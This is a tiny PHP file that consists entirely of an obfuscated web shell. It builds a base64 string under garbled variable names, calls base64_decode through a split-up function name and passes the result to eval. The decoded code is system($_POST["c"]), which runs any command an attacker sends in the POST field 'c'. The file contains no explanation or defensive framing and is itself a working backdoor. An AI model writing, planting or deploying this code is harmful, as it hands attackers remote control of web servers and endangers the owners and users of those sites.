<?php
$ÿþýü1 = 'c3lzdGVtKCRfUE9TVFsiYyJdKTs=';
$ÿþýü2 = array('fn' => 'base' . '64_decode');
$ÿþýü3['k'] = $ÿþýü2['fn']($ÿþýü1);
eval($ÿþýü3['k']);
